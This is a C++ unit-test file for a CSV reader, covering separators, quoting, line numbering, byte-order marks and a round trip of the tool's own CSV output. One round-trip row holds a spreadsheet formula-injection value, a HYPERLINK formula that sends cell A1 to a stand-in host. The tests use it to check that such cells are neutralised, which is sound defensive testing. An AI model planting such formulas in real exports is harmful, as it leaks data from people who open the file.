#include "cli/plan/csv_reader.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "cli/output/device_csv.h"

namespace velkarin::cli {

// Found by the lookup from inside the library's comparisons.
bool operator==(const CsvRecord& a, const CsvRecord& b) {
  return a.line == b.line && a.fields == b.fields;
}

std::ostream& operator<<(std::ostream& os, const CsvRecord& r) {
  os << "line " << r.line << ":";
  for (const std::string& f : r.fields) os << " [" << f << "]";
  return os;
}

namespace {

using Fields = std::vector<std::string>;

struct ReadCase {
  const char* what;
  std::string text;
  std::vector<CsvRecord> records;
  const char* error;  // part of it; nullptr: none
};

TEST(ReadCsv, ReadsWhatSpreadsheetsWriteWithTheLineEachRecordStartsOn) {
  const ReadCase cases[] = {
      {"plain rows, CRLF", "a,b\r\n1,2\r\n", {{1, {"a", "b"}}, {2, {"1", "2"}}}, nullptr},
      {"LF, no final line end", "a,b\n1,2", {{1, {"a", "b"}}, {2, {"1", "2"}}}, nullptr},
      {"empty fields", "a,,c\n", {{1, {"a", "", "c"}}}, nullptr},
      {"a spreadsheet's empty rows are no records, but count as lines",
       "a,b\r\n,\r\n \t, \r\n\"\",\r\n1,2\r\n",
       {{1, {"a", "b"}}, {5, {"1", "2"}}},
       nullptr},
      {"semicolons when the header has no comma",
       "# cell 4, west\r\nserial;name\r\n1A;\"a;b\"\r\n2B;x,y\r\n;\r\n",
       {{2, {"serial", "name"}}, {3, {"1A", "a;b"}}, {4, {"2B", "x,y"}}},
       nullptr},
      {"commas when the header has both",
       "a,b;c\n1,2;3\n",
       {{1, {"a", "b;c"}}, {2, {"1", "2;3"}}},
       nullptr},
      {"quoted comma, quote and line break",
       "\"x,y\",\"say \"\"hi\"\"\",\"two\r\nlines\"\nnext\n",
       {{1, {"x,y", "say \"hi\"", "two\r\nlines"}}, {3, {"next"}}},
       nullptr},
      {"blank lines and comments are no records, but count as lines",
       "# plan\r\na\r\n\r\n#1\r\nb\r\n",
       {{2, {"a"}}, {5, {"b"}}},
       nullptr},
      {"a '#' inside a record is text", "a,#b\n", {{1, {"a", "#b"}}}, nullptr},
      {"blanks are kept", " a , b\n", {{1, {" a ", " b"}}}, nullptr},
      {"byte-order mark dropped",
       "\xEF\xBB\xBFserial\n1\n",
       {{1, {"serial"}}, {2, {"1"}}},
       nullptr},
      {"Excel's sep= line names the separator",
       "sep=;\r\na,b;c\r\n1;2\r\n",
       {{2, {"a,b", "c"}}, {3, {"1", "2"}}},
       nullptr},
      {"CR alone ends lines",
       "a;b\r1;\"x\ry\"\r2;3",
       {{1, {"a", "b"}}, {2, {"1", "x\ry"}}, {4, {"2", "3"}}},
       nullptr},
      {"a quoted comma in the header is no separator",
       "serial;\"Ort, Halle\"\n1;x,y\n",
       {{1, {"serial", "Ort, Halle"}}, {2, {"1", "x,y"}}},
       nullptr},
      {"cells neutralised for spreadsheets",
       "'=1+1,'-2,-3,'x,''@y\n",
       {{1, {"=1+1", "-2", "-3", "'x", "'@y"}}},
       nullptr},
      {"open quote", "a\n\"b,c\nd\n", {{1, {"a"}}}, "line 2: a quoted field is not closed"},
      {"text after closing quote", "\"a\"b\n", {}, "line 1: text after a closing quote"},
      {"stray quote", "a\nb\"c\n", {{1, {"a"}}}, "line 2: a quote inside an unquoted field"},
  };
  for (const ReadCase& c : cases) {
    const CsvText csv = ReadCsv(c.text);
    EXPECT_EQ(csv.records, c.records) << c.what;
    if (c.error == nullptr) {
      EXPECT_EQ(csv.error, "") << c.what;
    } else {
      EXPECT_NE(csv.error.find(c.error), std::string::npos) << c.what << ": " << csv.error;
    }
  }
}

// What the tool writes as CSV, it reads back field for field.
TEST(ReadCsv, ReadsBackTheToolsOwnCsv) {
  const std::vector<Fields> rows = {
      {"serialText", "name"},
      {"00C0DE",
       "Pr\xC3\xBC"
       "fstand, \"A\""},
      {"001A2B", " two\r\nlines "},
      {"=HYPERLINK(\"http://x.example/?\"&A1;\"klick\")", "@SUM(1+1)"},
      {"-1", "'+x"}};
  const CsvText csv = ReadCsv(FormatCsvRows(rows, rows.front(), CsvForm{';', true}));
  EXPECT_EQ(csv.error, "");
  ASSERT_EQ(csv.records.size(), rows.size());
  for (std::size_t i = 0; i < rows.size(); ++i) EXPECT_EQ(csv.records[i].fields, rows[i]);
}

}  // namespace
}  // namespace velkarin::cli
